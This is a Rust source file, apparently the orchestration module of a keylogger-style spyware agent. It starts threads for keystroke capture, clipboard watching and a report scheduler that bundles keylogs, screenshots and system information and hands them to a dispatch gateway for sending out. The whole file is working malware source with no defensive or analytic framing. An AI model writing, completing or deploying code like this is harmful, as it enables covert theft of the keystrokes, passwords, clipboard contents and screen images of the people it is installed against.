//! Starts and joins the pipeline's three execution units: keystroke capture,
//! clipboard watching and report scheduling.
//!
//! The units share nothing mutable in memory. Each log has exactly one
//! writer thread, and the scheduler only reads them.

use crate::collector::{
    spawn_capture_loop, CaptureError, ClipboardSource, ClipboardWatcher, KeyCaptureBuffer,
    KeyInput, CLIPBOARD_POLL_INTERVAL,
};
use crate::context::AgentContext;
use crate::dispatch::DispatchGateway;
use crate::report::{
    CycleGate, ReportAssembler, ReportScheduler, ScreenshotProvider, SystemInfoProvider,
};
use crate::shutdown::StopFlag;
use crossbeam_channel::Receiver;
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;
use thiserror::Error;

#[derive(Debug, Error)]
pub enum AgentError {
    #[error(transparent)]
    Capture(#[from] CaptureError),
    #[error("failed to spawn {unit} thread: {source}")]
    Spawn {
        unit: &'static str,
        #[source]
        source: std::io::Error,
    },
}

/// External collaborators plugged into the pipeline.
pub struct Collaborators {
    /// Receiving half of the key channel a platform hook feeds
    pub key_events: Option<Receiver<KeyInput>>,
    pub clipboard: Box<dyn ClipboardSource>,
    pub screenshots: Box<dyn ScreenshotProvider>,
    pub system_info: Box<dyn SystemInfoProvider>,
    pub gateway: Option<Box<dyn DispatchGateway>>,
}

/// Timing knobs; production values come from the configuration.
#[derive(Debug, Clone, Copy)]
pub struct AgentTiming {
    pub clipboard_poll: Duration,
    pub report_interval: Duration,
}

impl AgentTiming {
    pub fn from_context(ctx: &AgentContext) -> Self {
        Self {
            clipboard_poll: CLIPBOARD_POLL_INTERVAL,
            report_interval: ctx.config.schedule.interval(),
        }
    }
}

/// A running pipeline.
pub struct Agent {
    stop: StopFlag,
    gate: CycleGate,
    handles: Vec<(&'static str, JoinHandle<()>)>,
}

impl Agent {
    /// Spawn every enabled unit. `stop` ends all of them.
    pub fn start(
        ctx: Arc<AgentContext>,
        collaborators: Collaborators,
        timing: AgentTiming,
        stop: StopFlag,
    ) -> Result<Self, AgentError> {
        let config = ctx.config.clone();
        let mut handles = Vec::new();

        if config.features.keylogging {
            if let Some(receiver) = collaborators.key_events {
                let buffer = KeyCaptureBuffer::new(
                    ctx.keylog_path.clone(),
                    config.schedule.keystroke_threshold,
                    ctx.chord,
                    stop.clone(),
                    ctx.stats.clone(),
                );
                handles.push(("key-capture", spawn_capture_loop(buffer, receiver, stop.clone())?));
            }
        }

        if config.features.clipboard_monitoring {
            let watcher = ClipboardWatcher::new(
                collaborators.clipboard,
                config.clipboard_file.clone(),
                ctx.stats.clone(),
            );
            let handle = watcher
                .spawn(stop.clone(), timing.clipboard_poll)
                .map_err(|source| AgentError::Spawn {
                    unit: "clipboard",
                    source,
                })?;
            handles.push(("clipboard-watch", handle));
        }

        let assembler = ReportAssembler::new(
            ctx.clone(),
            collaborators.screenshots,
            collaborators.system_info,
            collaborators.gateway,
        );
        let scheduler = Arc::new(ReportScheduler::new(
            timing.report_interval,
            move || {
                assembler.run_cycle();
            },
            ctx.stats.clone(),
        ));
        let gate = scheduler.gate().clone();
        let handle = scheduler
            .spawn(stop.clone())
            .map_err(|source| AgentError::Spawn {
                unit: "scheduler",
                source,
            })?;
        handles.push(("report-scheduler", handle));

        tracing::info!(component = "agent", units = handles.len(), "pipeline started");

        Ok(Self {
            stop,
            gate,
            handles,
        })
    }

    pub fn stop_flag(&self) -> &StopFlag {
        &self.stop
    }

    /// Gate shared with the scheduler, for observing cycle state.
    pub fn cycle_gate(&self) -> &CycleGate {
        &self.gate
    }

    /// Ask every unit to stop. Units finish their in-flight work first.
    pub fn request_stop(&self) {
        self.stop.request_stop();
    }

    /// Wait for every unit to exit.
    pub fn join(self) {
        for (unit, handle) in self.handles {
            if handle.join().is_err() {
                tracing::error!(component = "agent", unit, "unit panicked");
            }
        }
        tracing::info!(component = "agent", "pipeline stopped");
    }
}
